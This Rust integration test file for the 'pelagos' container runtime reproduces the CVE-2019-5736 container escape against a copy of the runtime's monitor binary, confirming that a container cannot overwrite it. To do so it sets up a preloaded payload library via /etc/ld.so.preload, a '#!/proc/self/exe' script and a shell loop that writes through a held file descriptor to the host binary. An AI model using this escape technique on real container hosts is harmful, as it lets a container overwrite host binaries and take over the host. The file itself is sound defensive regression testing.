//! CVE-2019-5736 against the `pelagos` CLI: its containers' init and exec'd processes are
//! clones of the container's monitor (`pelagos-monitor`), so a container command
//! `#!/proc/self/exe` would make the kernel run the monitor's executable inside the container.
//! A preloaded payload keeps a handle on it and writes through the handle once no host process
//! executes the file any more (the monitor and the `exec` CLI killed). The attack runs against
//! a copy of the monitor, so a failing test never damages the build.
//!
//! `PELAGOS_TEST_CLI=/path/to/pelagos-monitor` attacks that binary instead of this build's (to
//! show the test failing against a build without the defence).

mod cli_support;

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use cli_support::{wait_for, Env};

/// The payload library shared with tests/security.rs: preloaded into the CLI binary the
/// kernel runs for `#!/proc/self/exe`, it keeps a handle on it and execs the attack script.
const PAYLOAD_C: &str = include_str!("payloads/take_the_binary.c");

/// Reports `started` in `/out/$ATTACK.result`, waits (up to ~20 s) for the test's `/out/go`
/// (every host process executing the binary is gone by then), then writes through the handle,
/// retrying while the file is still executed somewhere (ETXTBSY, up to ~20 s). The verdict is
/// `written` or the last error.
const ATTACK_SH: &str = r#"fd=$1
out=/out/${ATTACK:-run}
echo started > $out.result
i=0
while [ ! -e /out/go ] && [ $i -lt 200 ]; do i=$((i+1)); sleep 0.1; done
i=0
while [ $i -lt 200 ]; do
    if ( printf PWNED 1<> /proc/self/fd/$fd ) 2>$out.err; then echo written > $out.result; exit 0; fi
    grep -q busy $out.err || break
    i=$((i+1)); sleep 0.1
done
cat $out.err > $out.result
"#;

/// The binary attacked: this build's `pelagos-monitor`, or `PELAGOS_TEST_CLI`.
fn binary_under_test() -> PathBuf {
    std::env::var_os("PELAGOS_TEST_CLI")
        .map(PathBuf::from)
        .unwrap_or_else(cli_support::monitor_program)
}

/// This build's own `pelagos`, for looking at the test's containers.
fn binary_under_test_build() -> PathBuf {
    PathBuf::from(env!("CARGO_BIN_EXE_pelagos"))
}

fn sha256(path: &Path) -> String {
    let out = Command::new("sha256sum")
        .arg(path)
        .output()
        .expect("sha256sum");
    assert!(out.status.success());
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .next()
        .unwrap()
        .to_string()
}

/// The loader and libraries a dynamic executable needs.
fn dynamic_libraries(exe: &Path) -> Vec<PathBuf> {
    let out = Command::new("ldd").arg(exe).output().expect("ldd");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| {
            l.split_whitespace()
                .find(|w| w.starts_with('/'))
                .map(PathBuf::from)
        })
        .collect()
}

fn write_executable(path: &Path, text: &str) {
    std::fs::write(path, text).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// An image (`pelagos import`) that can run the victim copy: static busybox, the copy's
/// loader and libraries, the payload in /etc/ld.so.preload, `/evil.sh` = `#!/proc/self/exe`.
/// Containers of this test are removed when it ends, also when it fails.
struct CliAttack {
    env: Env,
    victim: PathBuf,
    before: String,
    out: PathBuf,
    containers: Vec<String>,
}

impl CliAttack {
    fn new() -> CliAttack {
        let env = Env::new();
        let victim = env.dir.path().join("pelagos-monitor");
        std::fs::copy(binary_under_test(), &victim).expect("copy the monitor binary");
        let rootfs = env.dir.path().join("rootfs");
        std::fs::create_dir_all(rootfs.join("bin")).unwrap();
        std::fs::create_dir_all(rootfs.join("etc")).unwrap();
        std::fs::create_dir_all(rootfs.join("out")).unwrap();
        std::fs::copy("/bin/busybox", rootfs.join("bin/busybox")).expect("copy busybox");
        let applets = Command::new("/bin/busybox")
            .arg("--list")
            .output()
            .expect("busybox --list");
        for applet in String::from_utf8_lossy(&applets.stdout).lines() {
            if applet != "busybox" {
                std::os::unix::fs::symlink("busybox", rootfs.join("bin").join(applet)).unwrap();
            }
        }
        let libraries = dynamic_libraries(&victim);
        assert!(
            !libraries.is_empty(),
            "the attack needs a dynamic pelagos (the payload is preloaded)"
        );
        for lib in libraries {
            let dest = rootfs.join(lib.strip_prefix("/").unwrap());
            std::fs::create_dir_all(dest.parent().unwrap()).unwrap();
            std::fs::copy(&lib, &dest).expect("copy a library");
        }
        let src = env.dir.path().join("payload.c");
        std::fs::write(&src, PAYLOAD_C).unwrap();
        let built = Command::new("cc")
            .args(["-shared", "-fPIC", "-o"])
            .arg(rootfs.join("payload.so"))
            .arg(&src)
            .output()
            .expect("cc (gcc) builds the payload");
        assert!(
            built.status.success(),
            "cc: {}",
            String::from_utf8_lossy(&built.stderr)
        );
        std::fs::write(rootfs.join("etc/ld.so.preload"), "/payload.so\n").unwrap();
        std::fs::write(rootfs.join("attack.sh"), ATTACK_SH).unwrap();
        write_executable(&rootfs.join("evil.sh"), "#!/proc/self/exe\n");
        let tarball = env.dir.path().join("rootfs.tar");
        let tar = Command::new("tar")
            .arg("-C")
            .arg(&rootfs)
            .arg("-cf")
            .arg(&tarball)
            .arg(".")
            .status()
            .expect("tar");
        assert!(tar.success());
        env.ok(&[
            "import",
            "-c",
            "ENV PATH=/bin",
            tarball.to_str().unwrap(),
            "escape:1",
        ]);
        let out = env.dir.path().join("out");
        std::fs::create_dir_all(&out).unwrap();
        let before = sha256(&victim);
        CliAttack {
            env,
            victim,
            before,
            out,
            containers: Vec::new(),
        }
    }

    /// This build's `pelagos` with the test's paths, starting the victim copy as monitor.
    fn victim(&self) -> Command {
        let mut c = Command::new(binary_under_test_build());
        c.env("PELAGOS_MONITOR", &self.victim)
            .env("PELAGOS_ROOT", &self.env.root)
            .env("PELAGOS_RUNROOT", &self.env.runroot)
            .env("PELAGOS_CONFIG", &self.env.engine_config)
            .env("DOCKER_CONFIG", &self.env.config_dir)
            .env("PELAGOS_CGROUP_PARENT", &self.env.cgroup_parent)
            .stdin(Stdio::null());
        c
    }

    /// `run -d` by the victim copy, with the verdicts' directory at /out; returns the id.
    fn run_detached(&mut self, name: &str, command: &[&str]) -> String {
        let volume = format!("{}:/out", self.out.display());
        let out = self
            .victim()
            .args(["run", "-d", "--name", name, "-v", &volume, "escape:1"])
            .args(command)
            .output()
            .expect("spawn the victim pelagos");
        // Removed at the end whatever happens next (by name: run -d may fail after the record).
        self.containers.push(name.to_string());
        assert!(
            out.status.success(),
            "run -d: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    }

    /// SIGKILL the container's monitor (forked by our `run -d`); the container runs on.
    fn kill_monitor(&self, id: &str) {
        let record: serde_json::Value = serde_json::from_str(
            &std::fs::read_to_string(
                self.env
                    .root
                    .join("containers")
                    .join(id)
                    .join("container.json"),
            )
            .expect("container record"),
        )
        .unwrap();
        let monitor = record["state"]["owner"]["pid"]
            .as_i64()
            .expect("the monitor's pid") as i32;
        // SAFETY: kill(2) of the monitor this test's `run -d` started (pid from its record).
        unsafe { libc::kill(monitor, libc::SIGKILL) };
        wait_for("the monitor to go", || {
            std::fs::read_to_string(format!("/proc/{monitor}/stat"))
                .map(|s| s.contains(") Z"))
                .unwrap_or(true)
        });
    }

    /// Wait until the payload reports, or until `ended` says the attacked process is gone
    /// without it (the kernel ran something the payload cannot load into: the launch stub).
    /// Returns whether the payload runs.
    fn wait_started(&self, attack: &str, mut ended: impl FnMut() -> bool) -> bool {
        let result = self.out.join(format!("{attack}.result"));
        let mut started = false;
        wait_for(
            &format!("the payload ({attack}) to start or its process to end"),
            || {
                started = std::fs::metadata(&result).is_ok();
                started || ended()
            },
        );
        started
    }

    /// The container's status as the build's own `pelagos` sees it.
    fn status(&self, id: &str) -> String {
        let mut c = Command::new(binary_under_test_build());
        c.env("PELAGOS_ROOT", &self.env.root)
            .env("PELAGOS_RUNROOT", &self.env.runroot)
            .env("PELAGOS_CONFIG", &self.env.engine_config)
            .args(["inspect", "--format", "{{.State.Status}}", id]);
        let out = c.output().expect("pelagos inspect");
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    }

    /// "running" while any of the test's containers runs.
    fn status_of_all(&self) -> String {
        let running = self.containers.iter().any(|n| self.status(n) == "running");
        if running { "running" } else { "stopped" }.to_string()
    }

    /// Lets the attacks go on: no host process executes the binary any more.
    fn go(&self) {
        std::fs::write(self.out.join("go"), "").unwrap();
    }

    /// The attack's last word (it ends by itself within about 40 s); empty when the payload
    /// never ran.
    fn verdict(&self, attack: &str) -> String {
        if std::fs::metadata(self.out.join(format!("{attack}.result"))).is_err() {
            return String::new();
        }
        let result = self.out.join(format!("{attack}.result"));
        let mut text = String::new();
        // The container dies with its monitor: an attack cut short keeps saying "started".
        wait_for(&format!("the verdict of the {attack} attack"), || {
            text = std::fs::read_to_string(&result).unwrap_or_default();
            (!text.trim().is_empty() && text.trim() != "started")
                || self.status_of_all() != "running"
        });
        text.trim().to_string()
    }

    /// The payload did not run, or ran and its write failed; the binary is what it was.
    fn assert_binary_unchanged(&self, attack: &str) {
        let verdict = self.verdict(attack);
        eprintln!("{attack} attack on {}: {verdict}", self.victim.display());
        assert_ne!(
            verdict, "written",
            "the container wrote the pelagos binary ({attack})"
        );
        assert_eq!(
            sha256(&self.victim),
            self.before,
            "the pelagos binary changed (verdict {verdict:?})"
        );
    }

    /// Nothing running is left (run after the containers were removed).
    fn assert_clean(&mut self) {
        for name in std::mem::take(&mut self.containers) {
            self.env.ok(&["rm", "-f", &name]);
        }
        self.env.assert_no_container_leftovers();
    }
}

impl Drop for CliAttack {
    fn drop(&mut self) {
        // A failed test: the build's binary (never the victim, which may be damaged) removes
        // the containers; Env's drop then unmounts and removes the cgroups and directories.
        for name in &self.containers {
            let _ = self.env.run(&["rm", "-f", name]);
        }
    }
}

/// A child of the test, SIGKILLed and reaped when it goes out of scope (or earlier).
struct KilledOnDrop(std::process::Child);

impl KilledOnDrop {
    fn kill(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

impl Drop for KilledOnDrop {
    fn drop(&mut self) {
        self.kill();
    }
}

/// `pelagos run -d`: the init is a clone of the monitor.
#[test]
fn a_detached_container_cannot_overwrite_pelagos_once_its_monitor_is_gone() {
    let mut a = CliAttack::new();
    let id = a.run_detached("escape-run", &["/evil.sh"]);
    if a.wait_started("run", || a.status(&id) == "exited") {
        a.kill_monitor(&id);
        a.go();
    }
    a.assert_binary_unchanged("run");
    a.assert_clean();
}

/// `pelagos exec`: the exec'd process is a clone of the monitor; the CLI and the monitor
/// are killed.
#[test]
fn an_exec_process_cannot_overwrite_pelagos_once_the_cli_is_gone() {
    let mut a = CliAttack::new();
    let id = a.run_detached("escape-exec", &["sleep", "60"]);
    let mut exec = KilledOnDrop(
        a.victim()
            .args(["exec", "-e", "ATTACK=exec", "escape-exec", "/evil.sh"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("spawn the victim pelagos exec"),
    );
    if a.wait_started("exec", || exec.0.try_wait().ok().flatten().is_some()) {
        exec.kill();
        a.kill_monitor(&id);
        a.go();
    }
    a.assert_binary_unchanged("exec");
    a.assert_clean();
}
